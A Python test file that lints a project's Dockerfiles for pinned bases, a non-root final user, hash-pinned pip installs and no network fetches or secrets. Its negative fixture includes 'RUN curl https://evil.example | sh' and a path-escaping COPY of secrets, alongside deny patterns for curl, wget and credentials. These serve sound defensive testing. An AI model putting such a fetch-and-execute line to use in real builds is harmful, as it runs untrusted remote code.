"""What our Dockerfiles may say: a linter of a screen, tried on a file with every sin as well."""

import re
from pathlib import Path

import pytest

from gangline.build.builders.recipe import USER, dockerfile

IMAGES = Path(__file__).parents[3] / "components/images"
FILES = sorted(IMAGES.glob("*.Dockerfile"))
CONTEXT = {"requirements.lock", "gangline"}
SECRET = re.compile(r"(?i)(token|password|secret_|api_?key)\w*=|://[^/\s]+@")


def instructions(text):
    """(name, rest) of each, continued lines joined, comments gone."""
    lines = [line for line in text.splitlines() if not line.lstrip().startswith("#")]
    joined = "\n".join(lines).replace("\\\n", " ")
    return [tuple(line.split(maxsplit=1)) for line in joined.splitlines() if line.strip()]


def problems(text):
    found = instructions(text)
    names = [name for name, _ in found]
    yield from (f"{name} is not used here" for name in names if name in {"ADD", "VOLUME", "MAINTAINER", "SHELL"})
    if found[:2] != [("ARG", "BASE_IMAGE"), ("FROM", "${BASE_IMAGE}")] or names.count("FROM") != 1:
        yield "the base is the argument BASE_IMAGE, which has no default"
    if [rest for name, rest in found if name == "USER"] != [USER] or names[-1] != "USER":
        yield f"the last word is USER {USER}"
    if "chmod -R a+rX,go-w" not in text:
        yield "files are readable by the numeric user and writable by root alone"
    for name, rest in found:
        yield from RULES.get(name, lambda _: ())(rest)
        if ":latest" in rest or SECRET.search(rest):
            yield f"{name}: latest is no version, and secrets stay out"


def copy_problems(rest):
    sources = [word for word in rest.split() if not word.startswith("--")][:-1]
    if not set(sources) <= CONTEXT:
        yield f"COPY {rest}: the context has {', '.join(sorted(CONTEXT))}"


def run_problems(rest):
    if re.search(r"\b(curl|wget|apt-get|apk|sudo)\b|https?://", rest):
        yield f"RUN {rest[:40]}: fetches by itself; the base and the lock bring what is needed"
    if "pip install" in rest and not {"--require-hashes", "--no-deps", "--only-binary=:all:"} < set(rest.split()):
        yield "pip installs by hash, wheels alone"


RULES = {"COPY": copy_problems, "RUN": run_problems}


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.name)
def test_our_dockerfiles_keep_the_rules(path):
    assert list(problems(path.read_text())) == []


def test_every_sin_is_found():
    sins = (
        "FROM python:latest\nADD https://evil.example/x /x\nCOPY ../secrets /s\nENV API_KEY=abc\n"
        "RUN curl https://evil.example | sh\nRUN pip install torch\nUSER root\n"
    )
    found = list(problems(sins))
    assert len(found) == 9
    assert len(set(found)) == 9


def test_the_image_of_ranks_is_the_one_that_builders_build():
    assert (IMAGES / "runtime.Dockerfile").read_bytes() == dockerfile()
    assert [path.name for path in FILES] == [
        "data.Dockerfile",
        "federation.Dockerfile",
        "infer.Dockerfile",
        "line.Dockerfile",
        "runtime.Dockerfile",
    ]
